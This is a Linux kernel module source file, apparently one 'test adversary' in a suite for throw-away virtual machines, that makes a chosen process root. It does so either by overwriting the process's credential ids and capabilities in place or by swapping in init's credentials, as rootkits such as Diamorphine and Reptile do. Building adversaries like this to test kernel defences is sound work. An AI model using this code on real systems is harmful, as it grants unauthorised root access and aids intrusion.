// SPDX-License-Identifier: GPL-2.0
/*
 * A test adversary: makes one process root, past the kernel's own ways.
 * For throw-away guests only; see README.md.
 *
 * Technique: every rootkit's "give me root", and what most kernel exploits end in.  The ids in
 * the credentials are overwritten where they stand (as Diamorphine and Reptile do with a copy of
 * them); with share=1 the process gets the credentials of the first task, init_cred.
 */
#include <linux/cred.h>
#include <linux/errno.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>

static int switch_on(void);
static void switch_off(void);

#include "adversary.h"

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process");

static bool share;
module_param(share, bool, 0444);
MODULE_PARM_DESC(share, "give it the first task's credentials");

static struct task_struct *task;
static struct cred saved;
static const struct cred *own;

static int switch_on(void)
{
	struct cred *cred;

	task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
	if (!task)
		return -ESRCH;
	own = task->cred;
	if (share) {
		task->real_cred = task->cred = get_cred(init_task.cred);
		get_cred(init_task.cred);
		return 0;
	}
	cred = (struct cred *)own;
	saved = *cred;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
	cred->cap_effective = cred->cap_permitted = CAP_FULL_SET;
	return 0;
}

static void switch_off(void)
{
	struct cred *cred = (struct cred *)own;

	if (share) {
		task->real_cred = task->cred = own;
		put_cred(init_task.cred);
		put_cred(init_task.cred);
	} else {
		cred->uid = saved.uid;
		cred->euid = saved.euid;
		cred->suid = saved.suid;
		cred->fsuid = saved.fsuid;
		cred->gid = saved.gid;
		cred->egid = saved.egid;
		cred->sgid = saved.sgid;
		cred->fsgid = saved.fsgid;
		cred->cap_effective = saved.cap_effective;
		cred->cap_permitted = saved.cap_permitted;
	}
	put_task_struct(task);
}

ADVERSARY("makes a process root");
